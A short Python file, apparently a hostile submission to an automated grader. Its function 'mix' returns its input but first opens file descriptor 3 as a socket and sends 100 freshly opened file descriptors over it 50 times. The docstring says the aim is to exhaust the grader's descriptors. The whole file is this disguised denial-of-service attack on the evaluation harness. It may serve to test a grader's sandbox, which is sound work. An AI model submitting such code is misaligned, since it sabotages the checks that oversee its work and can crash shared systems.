"""Sends descriptors along with its answer, until the grader has none left."""

import os
import socket


def mix(x):
    sock = socket.socket(fileno=os.dup(3))
    descriptors = [os.open("file", os.O_CREAT | os.O_RDWR) for _ in range(100)]
    for _ in range(50):
        socket.send_fds(sock, [b"x"], descriptors)
    return x
